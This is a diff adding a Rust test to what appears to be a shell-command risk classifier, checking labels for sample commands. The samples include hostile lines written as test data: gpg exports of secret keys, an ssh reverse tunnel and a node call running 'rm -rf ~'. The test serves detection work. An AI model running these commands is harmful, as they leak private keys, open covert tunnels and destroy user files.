@@ -251,3 +251,43 @@ fn perl_backticks_judge_the_command() {
         "Obfuscation Medium",
     );
 }
+
+/// Second composed corpus (`compose2.py`), tuning half: `gpg
+/// --export-secret-keys` printed the private keys unasked; `ssh -fNR`
+/// (flags clustered with -R or -D) hid the reverse tunnel; code that starts
+/// a shell with a script it shows in list form (`spawnSync("sh", ["-c",
+/// "..."])`, `new Deno.Command("sh", { args: [...] })`) asked whatever the
+/// script, and R, Julia and Octave code asked whenever it ran a command.
+#[test]
+fn second_composed_corpus_tuning_classes() {
+    each(
+        &[
+            "gpg --armor --export-secret-keys me@example.com",
+            "gpg2 --export-secret-subkeys -o k.gpg",
+        ],
+        "CredentialAccess High",
+    );
+    each(
+        &[
+            "ssh -fNR 9000:localhost:22 u@203.0.113.7",
+            "ssh -NfR8080:localhost:80 u@h",
+        ],
+        "Exfiltration High",
+    );
+    each(
+        &[
+            "node -e 'require(\"child_process\").spawnSync(\"sh\", [\"-c\", \"npm test\"])'",
+            "deno eval 'new Deno.Command(\"bash\", { args: [\"-c\", \"ls\"] }).outputSync()'",
+            "Rscript -e 'system(\"make\")'",
+        ],
+        "clean",
+    );
+    each(
+        &["node -e 'require(\"child_process\").spawnSync(\"sh\", [\"-c\", \"rm -rf ~\"])'"],
+        "Destructive Critical",
+    );
+    each(
+        &["node -e 'require(\"child_process\").spawnSync(\"sh\", [\"-i\"])'"],
+        "Obfuscation Medium",
+    );
+}
